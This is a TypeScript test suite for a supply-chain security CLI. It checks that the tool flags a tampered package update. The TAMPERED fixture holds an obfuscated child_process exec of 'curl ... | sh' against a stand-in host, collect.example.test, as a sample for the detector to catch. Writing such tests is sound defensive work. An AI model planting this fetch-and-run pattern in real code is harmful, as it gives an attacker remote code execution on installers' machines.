import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout } from 'node:timers/promises';
import { makeProject } from '../cli/run-cli.ts';
import { startBuiltServer } from './support/built-server.ts';
import { type Home, makeHome } from './support/home.ts';
import { npm } from './support/npm.ts';
import { runCliBeside } from './support/run-async.ts';
import { startVerdaccio, type Verdaccio } from './support/verdaccio.ts';

const CLEAN = `exports.get = () => fetch('https://api.example.test');\n`;
const TAMPERED = `${CLEAN}const { exec } = require(['child', 'process'].join('_'));
exec('curl -s https://collect.example.test/a | sh');\n`;
/** What 1.0.1 can do that 1.0.0 cannot, and nothing else. */
const NEW = ['network (collect.example.test)', 'obfuscation (hidden names)', 'processes (commands)'];

function git(directory: string, ...args: readonly string[]): void {
  const identity = ['-c', 'user.name=A', '-c', 'user.email=a@example.test'];
  execFileSync('git', [...identity, ...args], { cwd: directory, stdio: 'ignore' });
}

describe('an update to a tampered version, by a real registry', () => {
  let verdaccio: Verdaccio;
  let home: Home;
  let directory: string;
  before(async () => {
    verdaccio = await startVerdaccio();
    await verdaccio.publish({ name: 'dayflow', version: '1.0.0' }, CLEAN);
    home = makeHome({ npmrc: `registry=${verdaccio.url}\n` });
    directory = makeProject({
      '.gitignore': 'node_modules\n',
      'package.json': { name: 'shop', dependencies: { dayflow: '^1.0.0' } },
    });
    const install = async (...args: readonly string[]) => {
      const { code, output } = await npm([...args, '--ignore-scripts'], directory, home.env);
      assert.equal(code, 0, output);
    };
    await install('install');
    git(directory, 'init', '--quiet');
    git(directory, 'add', '--all');
    git(directory, 'commit', '--quiet', '--message=one');
    await verdaccio.publish({ name: 'dayflow', version: '1.0.1' }, TAMPERED);
    await install('update');
  });
  after(async () => {
    await verdaccio.stop();
    rmSync(home.folder, { recursive: true, force: true });
  });

  const run = (...args: readonly string[]) => runCliBeside(args, { cwd: directory, env: home.env });
  const withoutPlace = (text: string) => text.replace(/ \(index\.js:\d+\)$/, '');

  test('says nothing of code that was not read, and asks for nothing, without --trust', async () => {
    const { out } = await run('diff', '--format', 'json');
    assert.equal(JSON.parse(out).code, undefined);
  });

  test('shows exactly the new capabilities in diff', async () => {
    const { out } = await run('diff', '--trust', '--format', 'json');
    const [update, ...others] = JSON.parse(out).code;
    assert.deepEqual([others, update.name, update.before, update.after], [[], 'dayflow', '1.0.0', '1.0.1']);
    assert.deepEqual([update.suspicious, update.capabilities.map(withoutPlace)], [true, NEW]);
  });

  test('is a finding of check --since', async () => {
    const { out } = await run('check', '--since', 'HEAD', '--trust', '--format', 'json');
    const found = JSON.parse(out).findings.filter(({ rule }: { rule: string }) => rule === 'suspicious-code');
    assert.equal(found.length, 1, out);
    assert.match(found[0].message, /^dayflow 1\.0\.1 has suspicious code: .*, unlike 1\.0\.0\./);
  });

  test('shows them in verify', async () => {
    const { out } = await run('verify', 'dayflow@1.0.1', '--trust', '--format', 'json');
    const { code, checks } = JSON.parse(out);
    const names = code.since.capabilities.map(
      ({ capability, detail }: Readonly<Record<string, string>>) => `${capability} (${detail})`,
    );
    assert.deepEqual([code.since.version, names], ['1.0.0', NEW]);
    assert.equal(checks.find(({ check }: { check: string }) => check === 'code').result, 'doubtful');
  });

  test('shows them in inspect without a request, as documents and records are cached', async () => {
    await run('inspect', 'dayflow', '--trust');
    const { out } = await run('inspect', 'dayflow', '--trust', '--offline', '--format', 'json');
    assert.equal(JSON.parse(out).since?.subject, '1.0.0', out);
  });

  test('shows them in hover', async () => {
    const server = await startBuiltServer({ project: directory, env: home.env });
    let card = '';
    // The last commit is read in the background.
    for (let times = 0; times < 40 && !card.includes('1.0.0:'); times++) {
      card = await server.hover('package.json', '"dayflow"');
      await setTimeout(250);
    }
    await server.stop();
    assert.match(card, /^\*\*Suspicious code\*\*, new since 1\.0\.0/);
    for (const one of NEW) assert.ok(card.replaceAll('\\', '').includes(one), `${one}: ${card}`);
    assert.ok(!card.includes('api.example.test'));
  });

  test('is gone once the version is committed', async () => {
    writeFileSync(join(directory, 'note'), '');
    git(directory, 'add', '--all');
    git(directory, 'commit', '--quiet', '--message=two');
    const { out } = await run('check', '--since', 'HEAD', '--trust', '--format', 'json');
    assert.doesNotMatch(out, /suspicious-code/);
  });
});
